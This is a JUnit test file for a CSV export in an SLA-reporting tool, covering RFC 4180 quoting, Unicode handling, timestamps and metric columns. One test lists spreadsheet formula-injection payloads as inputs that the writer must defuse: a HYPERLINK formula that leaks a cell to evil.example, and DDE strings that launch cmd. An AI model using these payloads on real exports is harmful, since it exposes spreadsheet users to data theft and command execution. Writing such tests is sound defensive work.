package io.slaflow.examples.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.slaflow.core.request.RequestKind;
import io.slaflow.core.request.RequesterTier;
import io.slaflow.core.request.Severity;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CsvReportTest {

    private static final Instant FILED = Instant.parse("2026-03-09T08:15:00Z");

    @Test
    void writesAHeaderAndOneRecordPerRequestEndingInCrlf() {
        SlaReport report = SampleReport.build();
        String csv = CsvReport.render(report.baseline().rows(), SampleReport.KYIV);

        List<List<String>> records = Rfc4180.parse(csv);

        assertEquals(CsvReport.HEADER, records.get(0));
        assertEquals(report.baseline().rows().size() + 1, records.size());
        assertTrue(records.stream().allMatch(r -> r.size() == CsvReport.HEADER.size()));
        assertTrue(csv.endsWith("\r\n"));
    }

    @Test
    void quotesCommasQuotesAndLineBreaksSoThatTheTextRoundTrips() {
        for (String subject : List.of(SampleReport.CSV_SUBJECT, SampleReport.SCRIPT_SUBJECT,
                SampleReport.EXPRESSION_SUBJECT, "plain", "", "\"", ",", "\n", "a\rb", " lead and trail ")) {
            String csv = CsvReport.render(List.of(row("R-1", subject)), SampleReport.KYIV);
            assertEquals(subject, Rfc4180.parse(csv).get(1).get(6), csv);
        }
    }

    @Test
    void quotesOnlyWhenRfc4180RequiresIt() {
        assertEquals("plain text", CsvReport.field("plain text"));
        assertEquals("\"a,b\"", CsvReport.field("a,b"));
        assertEquals("\"say \"\"hi\"\"\"", CsvReport.field("say \"hi\""));
        assertEquals("\"two\r\nlines\"", CsvReport.field("two\r\nlines"));
    }

    @Test
    void putsAQuoteBeforeASubjectThatASpreadsheetWouldRunAsAFormula() {
        Map<String, String> hostile = new LinkedHashMap<>();
        hostile.put("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")", "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")");
        hostile.put("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0");
        hostile.put("-2+3", "'-2+3");
        hostile.put("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0");
        hostile.put("\t=1+1", "'\t=1+1");
        hostile.put("\r=1+1", "'\r=1+1");
        hostile.put("=1,2", "'=1,2");
        for (Map.Entry<String, String> e : hostile.entrySet()) {
            String csv = CsvReport.render(List.of(row("R-1", e.getKey())), SampleReport.KYIV);
            assertEquals(e.getValue(), Rfc4180.parse(csv).get(1).get(6), csv);
        }
    }

    @Test
    void leavesTextThatOnlyContainsFormulaCharactersAfterItsStartAsItIs() {
        for (String subject : List.of("Total = net + tax", "a-b", "mail@example.com", "'=quoted already",
                " =1+1", "", "1,5")) {
            String csv = CsvReport.render(List.of(row("R-1", subject)), SampleReport.KYIV);
            assertEquals(subject, Rfc4180.parse(csv).get(1).get(6), csv);
        }
    }

    @Test
    void guardsEveryColumnWhoseTextComesFromOutside() {
        RequestRow hostile = new RequestRow("=ID()", "+acme", RequesterTier.KEY_USER, RequestKind.DEVELOPMENT,
                Severity.NON_CRITICAL, "@programmers", "-subject", FILED,
                MetricResult.completed(Duration.ofHours(4), Duration.ofHours(1), FILED.plus(Duration.ofHours(1))),
                MetricResult.open(Duration.ofHours(40), Duration.ofHours(12)), 2);

        List<String> r = Rfc4180.parse(CsvReport.render(List.of(hostile), SampleReport.KYIV)).get(1);

        assertEquals(List.of("'=ID()", "'+acme", "KEY_USER", "DEVELOPMENT", "NON_CRITICAL", "'@programmers",
                "'-subject"), r.subList(0, 7));
        assertEquals(List.of("240", "60", "MET", ""), r.subList(10, 14), "numbers stay numbers");
    }

    @Test
    void replacesUnpairedSurrogatesWhichUtf8CannotEncode() {
        assertEquals("a\uFFFDb \uD83D\uDE80", CsvReport.field("a\uD800b \uD83D\uDE80"));
    }

    @Test
    void writesTimesWithTheZoneOffsetWorkingTimesInMinutesAndTheConfigVersion() {
        RequestRow late = new RequestRow("R-2", "acme", RequesterTier.KEY_USER, RequestKind.DEVELOPMENT,
                Severity.NON_CRITICAL, "programmers", "s", FILED,
                MetricResult.completed(Duration.ofHours(4), Duration.ofMinutes(250).plusSeconds(30),
                        Instant.parse("2026-03-09T12:35:30Z")),
                MetricResult.open(Duration.ofHours(40), Duration.ofHours(12)), 2);

        List<String> r = Rfc4180.parse(CsvReport.render(List.of(late), SampleReport.KYIV)).get(1);

        assertEquals(List.of("R-2", "acme", "KEY_USER", "DEVELOPMENT", "NON_CRITICAL", "programmers", "s",
                "2026-03-09T10:15:00+02:00", "2026-03-09T14:35:30+02:00", "",
                "240", "250.5", "BREACHED", "10.5",
                "2400", "720", "OPEN", "", "2", "", "", "", ""), r, "no start target: its four columns empty");
    }

    @Test
    void writesTheTimeToStartWorkInTheLastColumns() {
        RequestRow started = new RequestRow("R-3", "acme", RequesterTier.ORDINARY_USER, RequestKind.CONSULTATION,
                Severity.NON_CRITICAL, "consultants", "s", FILED,
                MetricResult.completed(Duration.ofHours(4), Duration.ofMinutes(20), FILED.plus(Duration.ofMinutes(20))),
                MetricResult.open(Duration.ofHours(24), Duration.ofMinutes(20)), 1,
                MetricResult.completed(Duration.ofMinutes(5), Duration.ofSeconds(450), FILED.plusSeconds(450)));

        List<String> r = Rfc4180.parse(CsvReport.render(List.of(started), SampleReport.KYIV)).get(1);

        assertEquals(List.of("1", "2026-03-09T10:22:30+02:00", "5", "7.5", "BREACHED"), r.subList(18, 23),
                "claimed 7.5 minutes after filing, against 5");
        assertEquals(CsvReport.HEADER.subList(18, 23), List.of("config_version", "started_at", "start_target_min",
                "start_working_min", "start_outcome"));
    }

    @Test
    void theWriterPutsTheBaselineInReportCsvInUtf8(@TempDir Path dir) throws IOException {
        SlaReport report = SampleReport.build();

        List<Path> written = ReportWriter.write(report, dir.resolve("sla-report"));

        assertEquals(List.of(dir.resolve("sla-report/index.html"), dir.resolve("sla-report/report.csv")),
                written.subList(0, 2));
        String csv = Files.readString(written.get(1), StandardCharsets.UTF_8);
        assertEquals(CsvReport.render(report.baseline().rows(), report.run().zone()).replace('\uD800', '\uFFFD'), csv);
        assertTrue(csv.contains("\uD83D\uDE80"), "a paired surrogate (emoji) survives");
    }

    static RequestRow row(String id, String subject) {
        return new RequestRow(id, "acme", RequesterTier.ORDINARY_USER, RequestKind.CONSULTATION, Severity.CRITICAL,
                "consultants", subject, FILED,
                MetricResult.completed(Duration.ofHours(2), Duration.ofMinutes(30), FILED.plus(Duration.ofMinutes(30))),
                MetricResult.completed(Duration.ofHours(8), Duration.ofHours(1), FILED.plus(Duration.ofHours(1))));
    }
}
